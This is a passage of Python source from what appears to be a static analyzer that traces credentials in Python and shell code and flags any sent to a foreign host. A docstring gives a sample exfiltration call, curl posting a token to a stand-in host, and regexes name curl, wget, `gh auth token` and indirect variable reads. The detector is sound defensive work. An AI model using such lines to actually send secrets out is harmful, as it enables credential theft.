                close = self._args_end(link.end() - 1)
                if link.group(1) in ("write", "end"):
                    spans.append((link.end(), close))
                at = close + 1
            holder = binds[index]
            if holder is not None:
                if writes is None:
                    writes = {}
                    for m in _NODE_WRITE.finditer(text):
                        writes.setdefault(m.group(1), []).append(m.end())
                mine = writes.get(holder, [])
                first_write = bisect.bisect_right(mine, end)
                for open_write in mine[first_write : bisect.bisect_left(mine, following[index])]:
                    spans.append((open_write, self._args_end(open_write - 1)))
            for start, stop in spans:
                if sent is not None:
                    break
                sent = self._first_hot(start, stop)
                line = self.line(start) if sent is not None else line
            if sent is not None:
                found.setdefault(call.start(), _hit(line, sent, host))

    def _spawned(self, found: dict[int, Hit]) -> None:
        """`subprocess.run(["curl", "-d", token, "https://x.example/c"])`: a fetcher run as a
        command with the credential and a URL of another host in its arguments."""
        text = self.text
        words = [m.start() for m in _FETCH_WORD.finditer(text)]
        if not words:
            return
        urls = [(m.start(), m.group(1)) for m in _ANY_URL.finditer(text)]
        foreign = [(at, host) for at, host in urls if not _OWN.search(host)]
        starts = [at for at, _ in foreign]
        for call in _SPAWN.finditer(text):
            open_at = call.end() - 1
            end = self._args_end(open_at)
            at = bisect.bisect_left(words, open_at)
            if at == len(words) or words[at] >= end:
                continue
            at = bisect.bisect_left(starts, open_at)
            if at == len(starts) or starts[at] >= end:
                continue
            sent = self._first_hot(open_at, end)
            if sent is not None:
                hit = _hit(self.line(call.start()), sent, foreign[at][1])
                found.setdefault(call.start(), hit)

    def _split(
        self, start: int, end: int
    ) -> tuple[list[tuple[int, int]], list[tuple[str, tuple[int, int]]]]:
        """A call's arguments at its own level: positional spans and (keyword, span)."""
        text = self.text
        pieces = _pieces(text, start, end, self.close)
        positional: list[tuple[int, int]] = []
        keywords: list[tuple[str, tuple[int, int]]] = []
        for begin, stop_at in pieces:
            if not text[begin:stop_at].strip():
                continue
            keyword = _KEYWORD_ARG.match(text, begin, stop_at)
            if keyword is not None and self.lang == "python":
                keywords.append((keyword.group(1), (keyword.end(), stop_at)))
            elif _SPREAD.match(text, begin, stop_at) and self.lang == "python":
                keywords.append(("**", (begin, stop_at)))
            else:
                positional.append((begin, stop_at))
        return positional, keywords


def _hit(line: int, sent: str, host: str) -> Hit:
    return Hit("secret-in-url", line, f"sends {sent} to {host}")


def _owner(text: str, at: int) -> str | None:
    """`session` in `session.post(`: the object a request method is called on."""
    match = re.search(r"([A-Za-z_$][\w$]*)\s*\.\s*$", text[max(0, at - 80) : at])
    return match.group(1) if match else None


def _line_end(text: str, at: int) -> int:
    end = text.find("\n", at)
    return len(text) if end == -1 else end


def _match_brackets(text: str) -> dict[int, int]:
    """Open bracket position -> its closing bracket's, each kind matched on its own stack (a
    bracket inside a string throws off only its own kind)."""
    stacks: dict[str, list[int]] = {"(": [], "[": [], "{": []}
    pairs = {")": "(", "]": "[", "}": "{"}
    close: dict[int, int] = {}
    for m in re.finditer(r"[()\[\]{}]", text):
        char = m.group(0)
        if char in stacks:
            stacks[char].append(m.start())
        else:
            stack = stacks[pairs[char]]
            if stack:
                close[stack.pop()] = m.start()
    return close


def _tokens(text: str, names: set[str]) -> list[tuple[int, str]]:
    """Uses of `names`: not an attribute (`x.h`), not in quotes (`"h"`), not a keyword argument
    or key being given (`h=`, `h:`), not a client making a request (`gh.get(…)` is its reply),
    sorted by position."""
    out = []
    for m in _NAME.finditer(text):
        name = m.group(0)
        if name not in names:
            continue
        start, end = m.start(), m.end()
        before = text[start - 1] if start else ""
        if before in "\"'." or before.isalnum():
            continue
        after = text[end : end + 3].lstrip(" \t")
        if (
            after[:1] in ('"', "'")
            or (after[:1] == "=" and after[1:2] != "=")
            or (after[:1] == ":" and after[1:2] != ":")
        ):
            continue
        if _REQUEST_ON.match(text, end):  # `gh.get("/user")` sends with it, returns a reply
            continue
        out.append((start, name))
    return out


def _pieces(text: str, start: int, end: int, close: dict[int, int]) -> list[tuple[int, int]]:
    """The spans between the commas of one bracket level in `text[start:end]` (a call's
    arguments or a parameter list), stepping over nested brackets by `close` (opening offset
    -> closing offset)."""
    pieces: list[tuple[int, int]] = []
    at, begin = start, start
    while True:
        stop = _ARG_STOP.search(text, at, end)
        if stop is None:
            pieces.append((begin, end))
            return pieces
        if stop.group(0) == ",":
            pieces.append((begin, stop.start()))
            at = begin = stop.end()
            continue
        closing = close.get(stop.start())
        if closing is None or closing >= end:
            pieces.append((begin, end))
            return pieces
        at = closing + 1


def _params(
    text: str, start: int, end: int, close: dict[int, int]
) -> tuple[list[str], dict[str, tuple[int, int]]]:
    """A parameter list's names in order (`*args`/`**kw` kept with their stars) and the span of
    each default value given."""
    pieces = _pieces(text, start, end, close)
    names: list[str] = []
    defaults: dict[str, tuple[int, int]] = {}
    for begin, stop_at in pieces:
        piece = text[begin:stop_at]
        match = _PARAM_NAME.match(piece)
        if match is None:
            continue
        stars = piece.strip()[:2]
        prefix = "**" if stars == "**" else "*" if stars[:1] == "*" or stars == ".." else ""
        names.append(prefix + match.group(1))
        equals = piece.find("=", match.end())
        if equals != -1 and piece[equals + 1 : equals + 2] != "=":
            defaults[match.group(1)] = (begin + equals + 1, stop_at)
    return names, defaults


def _python_blocks(text: str, defs: list[tuple[int, int]]) -> list[int]:
    """The end of each `def` block (start, indent) in one pass: where a later non-blank,
    non-comment line is indented no deeper than the `def`."""
    ends = [len(text)] * len(defs)
    stack: list[tuple[int, int]] = []  # (indent, index)
    index = 0
    at = 0
    while at <= len(text):
        end = _line_end(text, at)
        line = text[at:end]
        stripped = line.lstrip(" \t")
        if stripped and not stripped.startswith("#"):
            indent = len(line) - len(stripped)
            while index < len(defs) and defs[index][0] < at:
                index += 1
            is_def = index < len(defs) and defs[index][0] == at
            while stack and stack[-1][0] >= indent:
                ends[stack.pop()[1]] = at
            if is_def:
                stack.append((indent, index))
        at = end + 1
    return ends


# --- shell ---------------------------------------------------------------------------------

_SH_SOURCE = re.compile(rf"\$\{{?{_CREDS}\b|\$\(\s*(?:gh\s+auth\s+token|printenv\s+{_CREDS})\s*\)")
_SH_ASSIGN = re.compile(
    r"^[ \t]*(?:(?:export|local|readonly|declare(?:[ \t]+-\w+)*)[ \t]+)?([A-Za-z_]\w*)=(.*)$"
)
_SH_FUNCTION = re.compile(
    r"^[ \t]*(?:function[ \t]+([A-Za-z_][\w-]*)[ \t]*(?:\(\))?|([A-Za-z_][\w-]*)[ \t]*\(\))[ \t]*\{?"
)
_SH_NET = re.compile(
    r"(?:^|[;&|({`]|\$\(|\beval[ \t]+[\"']?)[ \t]*(?:sudo[ \t]+)?(?:curl|wget|xh|https?)\b"
)
_SH_VAR = re.compile(r"\$(?:\{([A-Za-z_]\w*)[^}]*\}|([A-Za-z_]\w*))")
_SH_POSITIONAL = re.compile(r"\$(?:\{([1-9@*])\}|([1-9@*]))")
_SH_URL = re.compile(r"https?://(?:[^\s/@\"'`]*@)?([\w.-]+)")
_SH_WORD = re.compile(r"\"(?:[^\"\\]|\\.)*\"|'[^']*'|[^\s;&|]+")


def _first_foreign(hosts: Iterable[str | None]) -> str | None:
    """The first of `hosts` that is no credential's own service (None: there is none)."""
    return next((h for h in hosts if h is not None and not _OWN.search(h)), None)


_SH_LOOP = re.compile(r"(?:^|[;&|(])[ \t]*(?:for|while|until|select)\b")
_SH_DONE = re.compile(r"(?:^|[;&|])[ \t]*done\b")


class _ShellValues:
    """The URLs one shell variable is given, for what it may hold at a line that uses it: in
    straight-line code the last value given before it, a value given in a function (which may
    run in between) or in a loop after that value and before the line; in a loop also a value given later in that loop (its
    next round); in a function, or before any value, every value it is ever given. Of several,
    the first that is not a credential's own service stands for them (None: there is none)."""

    def __init__(self, given: list[tuple[int, str | None]], regions: list[int]) -> None:
        straight = [(at, host) for at, host in given if regions[at - 1] == 0]
        self.lines = [at for at, _ in straight]
        self.hosts = [host for _, host in straight]
        self.every = _first_foreign(host for _, host in given)
        self.in_functions = _first_foreign(h for at, h in given if regions[at - 1] == -1)
        looped = [(at, h) for at, h in given if regions[at - 1] > 0]
        foreign = [(at, h) for at, h in looped if _first_foreign([h]) and h is not None]
        self.looped_lines = [at for at, _ in foreign]
        self.looped_hosts: list[str | None] = [h for _, h in foreign]
        self.per_loop: dict[int, str] = {}
        for at, host in looped:
            if _first_foreign([host]) and host is not None:
                self.per_loop.setdefault(regions[at - 1], host)

    def at(self, number: int, region: int) -> list[str | None]:
        last = bisect.bisect_left(self.lines, number) - 1
        if region == -1 or (region == 0 and last < 0):
            return [self.every]
        out = [self.hosts[last]] if last >= 0 else []
        out.append(self.in_functions)
        # a foreign value a loop gave after the last straight one, before this line
        after = self.lines[last] if last >= 0 else 0
        index = bisect.bisect_right(self.looped_lines, after)
        if index < len(self.looped_lines) and self.looped_lines[index] < number:
            out.append(self.looped_hosts[index])
        if region > 0:
            out.append(self.per_loop.get(region))
        return out


def _sh_regions(lines: list[str]) -> list[int]:
    """For each line, where it runs: 0 in straight-line code, -1 in a function's body (called
    from anywhere, any number of times), else the number of the line opening the outermost
    loop it lies in (run again after its later lines)."""
    out: list[int] = []
    depth = loops = 0
    inside = False
    opening = 0
    for number, line in enumerate(lines, 1):
        if not inside and _SH_FUNCTION.match(line) is not None:
            inside, depth = True, 0
        opened = len(_SH_LOOP.findall(line))
        if opened and not loops:
            opening = number
        loops += opened
        out.append(-1 if inside else opening if loops > 0 else 0)
        loops = max(0, loops - len(_SH_DONE.findall(line)))
        if inside:
            depth += line.count("{") - line.count("}")
            if depth <= 0 and "}" in line:
                inside = False
    return out


#: what reads a variable named by another: `${!V}`, `eval "echo \$$V"`, `printenv "$V"`, a nameref
_SH_INDIRECT = re.compile(r"\$\{!|\beval\b|\bprintenv\b|\b(?:declare|local|typeset)[ \t]+-\w*n")
_SH_NAMEREF = re.compile(
    r"^[ \t]*(?:declare|local|typeset)[ \t]+-\w*n\w*[ \t]+([A-Za-z_]\w*)=[\"']?([A-Za-z_]\w*)"
)
_SH_FOR = re.compile(r"^[ \t]*for[ \t]+([A-Za-z_]\w*)[ \t]+in[ \t]+([^;\n]*?)[ \t]*(?:;|$)")
_SH_PLAIN = re.compile(r"[A-Za-z_]\w*")


def _shell_names(lines: list[str]) -> set[str]:
    """Variables holding a well-known credential's name: `V=GITHUB_TOKEN`, `V="${P}_TOKEN"` with
    `P=GITHUB`, `for V in GITHUB_TOKEN GH_TOKEN`."""
    consts: dict[str, list[str]] = {}
    for _ in range(2):
        for line in lines:
            match = _SH_ASSIGN.match(line) or _SH_NAMEREF.match(line)
            loop = _SH_FOR.match(line) if match is None else None
            if match is not None:
                name, words = match.group(1), [match.group(2)]
            elif loop is not None:
                name, words = loop.group(1), loop.group(2).split()
            else:
                continue
            values: list[str] = []
            for word in words[:_FOLD_MAX]:
                word = word.strip().replace('"', "").replace("'", "")
                known = True

                def expand(var: re.Match[str]) -> str:
                    nonlocal known
                    found = consts.get(var.group(1) or var.group(2) or "")
                    if not found:
                        known = False
                        return ""
                    return found[0]

                word = _SH_VAR.sub(expand, word)
                if known and _SH_PLAIN.fullmatch(word):
                    values.append(word)
            if values:
                consts[name] = values
    return {name for name, values in consts.items() if any(map(_CRED_NAME.fullmatch, values))}


def _shell_flow(text: str) -> list[Hit]:
    # a command continued over lines (`curl \` then `-H …` then the URL) is one line, read at
    # the line it starts on; the lines it took are left blank so numbers are kept
    lines = text.split("\n")
    start = None
    for number, line in enumerate(lines):
        if start is not None:
            lines[start] = lines[start][:-1] + " " + line
            lines[number] = ""
        else:
            start = number
        if not lines[start].endswith("\\"):
            start = None
    tainted: dict[str, str] = {}  # variable -> the credential it holds
    regions = _sh_regions(lines)
    # variable -> each assignment (line, host or None when no URL), in the order written
    assigned: dict[str, list[tuple[int, str | None]]] = {}
    for number, line in enumerate(lines, 1):
        match = _SH_ASSIGN.match(line)
        if match is not None:
            value = match.group(2)
            url = _SH_URL.search(value)
            held = url is not None and value.lstrip("\"'").startswith(url.group(0))
            assigned.setdefault(match.group(1), []).append(
                (number, url.group(1) if url is not None and held else None)
            )
    urls = {name: _ShellValues(given, regions) for name, given in assigned.items()}
    source_re = _SH_SOURCE
    if _SH_INDIRECT.search(text) is not None:
        named = _shell_names(lines)
        if named:  # `V=GITHUB_TOKEN` then `${!V}`, `eval "echo \$$V"`, `printenv "$V"`
            either = "|".join(map(re.escape, sorted(named)))
            source_re = re.compile(
                rf"{_SH_SOURCE.pattern}|\$\{{!(?:{either})\}}"
                rf"|\beval\b[^\n]*?\\\$\{{?\$\{{?(?:{either})\b"
                rf"|\bprintenv[ \t]+[\"']?\$\{{?(?:{either})\b"
            )
            set_in_eval = re.compile(
                rf"\beval\b[^\n]*?\b([A-Za-z_]\w*)=\\\$\{{?\$\{{?((?:{either}))\b"
            )
            for line in lines:  # `declare -n R=GITHUB_TOKEN` or `eval "R=\$$V"`: `$R` holds it
                ref = _SH_NAMEREF.match(line) or set_in_eval.search(line)
                if ref is not None and (
                    ref.group(2) in named or _CRED_NAME.fullmatch(ref.group(2))
                ):
                    tainted.setdefault(ref.group(1), f"{ref.group(1)} -> {ref.group(2)}")
    for _ in range(2):
        for line in lines:
            match = _SH_ASSIGN.match(line)
            if match is None:
                continue
            value = match.group(2)
            source = source_re.search(value)
            held = next(
                (
                    tainted[n]
                    for v in _SH_VAR.finditer(value)
                    if (n := v.group(1) or v.group(2)) in tainted
                ),
                None,
            )
            if source is not None or held is not None:
                tainted.setdefault(match.group(1), source.group(0) if source else held or "")

    def hot(words: str) -> str | None:
        source = source_re.search(words)
        if source is not None:
            return source.group(0)
        for v in _SH_VAR.finditer(words):
            name = v.group(1) or v.group(2)
            if name in tainted:
                return f"{v.group(0)} ({tainted[name]})"
        return None

    def hosts(name: str, number: int) -> list[str | None]:
        values = urls.get(name)
        return [] if values is None else values.at(number, regions[number - 1])

    def foreign(line: str, number: int) -> str | None:
        for url in _SH_URL.finditer(line):
            if not _OWN.search(url.group(1)):
                return url.group(1)
        for v in _SH_VAR.finditer(line):
            for host in hosts(v.group(1) or v.group(2) or "", number):
                if host is not None and not _OWN.search(host):
                    return host
        return None

    hits: list[Hit] = []
    sends: dict[str, tuple[set[str], str]] = {}  # kind A: function -> ($1…, host)
    wrappers: set[str] = set()  # kind B: the URL is an argument
    inside: str | None = None
    depth = 0
    for number, line in enumerate(lines, 1):
        if inside is None:
            match = _SH_FUNCTION.match(line)
            if match is not None:
                inside = match.group(1) or match.group(2)
                depth = 0
        if _SH_NET.search(line):
            host = foreign(line, number)
            sent = hot(line)
            if host is not None and sent is not None:
                hits.append(_hit(number, sent, host))
            if inside is not None:
                used = {p.group(1) or p.group(2) for p in _SH_POSITIONAL.finditer(line)}
                if used and host is not None:
                    known = sends.setdefault(inside, (set(), host))
                    known[0].update(used)
                elif used and _SH_URL.search(line) is None:
                    wrappers.add(inside)
        if inside is not None:
            depth += line.count("{") - line.count("}")
            if depth <= 0 and "}" in line:
                inside = None
    if not sends and not wrappers:
        return hits
    seen = {h.line for h in hits}
    for number, line in enumerate(lines, 1):
        words = _SH_WORD.findall(line)
        if not words or number in seen:
            continue
        name = words[0]
        args = words[1:]
        if name in sends:
            used, host = sends[name]
            for index, arg in enumerate(args, 1):
                sent = hot(arg)
                if sent is not None and (str(index) in used or used & {"@", "*"}):
                    hits.append(_hit(number, sent, host))
                    break
        elif name in wrappers:
            host = foreign(" ".join(args), number)
            sent = hot(" ".join(args))
            if host is not None and sent is not None:
                hits.append(_hit(number, sent, host))
    return sorted(hits, key=lambda h: h.line)
